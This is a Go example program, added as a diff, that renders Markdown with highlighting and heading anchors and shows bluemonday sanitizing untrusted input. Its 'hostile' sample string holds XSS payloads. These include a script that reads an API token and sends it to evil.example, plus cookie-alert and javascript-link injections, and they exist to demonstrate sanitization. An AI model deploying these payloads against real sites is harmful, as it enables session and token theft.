@@ -0,0 +1,90 @@
+// Demonstrates rendering Markdown to HTML, safely.
+//
+// This example shows:
+// - Converting Markdown with goldmark and GitHub Flavored Markdown
+// - A goldmark renderer extension that highlights code blocks with chroma
+// - A goldmark renderer extension that adds anchor links to headings
+// - Sanitizing HTML rendered from untrusted Markdown with a bluemonday allowlist
+// - A /preview endpoint and an editor page that shows the HTML as you type
+package main
+
+import (
+	"bytes"
+	_ "embed"
+	"flag"
+	"fmt"
+	"log"
+	"net/http"
+	"os"
+
+	"golang_roadmap/08_web_development/10_markdown/markdown"
+)
+
+//go:embed web/index.html
+var editorPage []byte
+
+const sample = "## Install\n\n" +
+	"```go\nimport \"golang_roadmap/08_web_development/10_markdown/markdown\"\n```\n\n" +
+	"Then call `markdown.New`. <kbd>Ctrl</kbd>+<kbd>C</kbd> stops the server.\n"
+
+const hostile = "Nice post! <script>fetch('/api/token').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)</script>\n\n" +
+	"<img src=\"/avatar.png\" onerror=\"alert(document.cookie)\">\n\n" +
+	"[Click me](javascript:alert(1)) or <a href=\"https://example.com\" style=\"position:fixed;inset:0\">this</a>\n\n" +
+	"<h2 id=\"login-form\">Not the real login form</h2>\n"
+
+func main() {
+	addr := flag.String("serve", "", "after the demo, serve the preview editor on this address, such as :8080")
+	style := flag.String("style", "github", "chroma style for highlighted code")
+	printCSS := flag.Bool("css", false, "print the stylesheet for -style and exit")
+	flag.Parse()
+
+	if *printCSS {
+		if err := markdown.CSS(os.Stdout, *style); err != nil {
+			log.Fatal(err)
+		}
+		return
+	}
+
+	fmt.Println("markdown examples starting...")
+
+	// 1) Trusted Markdown: highlighted code and heading anchors. Raw HTML
+	// is kept, as the author is trusted.
+	fmt.Println("\n1) Trusted, with raw HTML")
+	trusted := markdown.New(markdown.Options{RawHTML: true})
+	if err := trusted.Convert([]byte(sample), os.Stdout); err != nil {
+		log.Fatal(err)
+	}
+
+	// 2) The same renderer would pass a hostile comment straight through.
+	fmt.Println("\n2) Untrusted, not sanitized: every line here is an attack")
+	trusted.Convert([]byte(hostile), os.Stdout)
+
+	// 3) A sanitizing renderer keeps the text and drops the rest.
+	fmt.Println("\n3) Untrusted, sanitized")
+	untrusted := markdown.New(markdown.Options{RawHTML: true, Sanitize: true, IDPrefix: "user-content-"})
+	if err := untrusted.Convert([]byte(hostile), os.Stdout); err != nil {
+		log.Fatal(err)
+	}
+
+	// 4) Highlighting uses classes; the colours are a stylesheet.
+	var css bytes.Buffer
+	if err := markdown.CSS(&css, *style); err != nil {
+		log.Fatal(err)
+	}
+	lines := bytes.SplitN(css.Bytes(), []byte("\n"), 4)
+	fmt.Printf("\n4) Stylesheet for %q: %d bytes, starting\n%s\n", *style, css.Len(), bytes.Join(lines[:min(3, len(lines))], []byte("\n")))
+
+	if *addr != "" {
+		http.HandleFunc("GET /{$}", func(w http.ResponseWriter, r *http.Request) {
+			w.Header().Set("Content-Type", "text/html; charset=utf-8")
+			w.Write(editorPage)
+		})
+		http.HandleFunc("GET /syntax.css", func(w http.ResponseWriter, r *http.Request) {
+			w.Header().Set("Content-Type", "text/css; charset=utf-8")
+			w.Write(css.Bytes())
+		})
+		http.Handle("POST /preview", markdown.PreviewHandler(untrusted))
+		log.Printf("serving the editor on %s", *addr)
+		log.Fatal(http.ListenAndServe(*addr, nil))
+	}
+}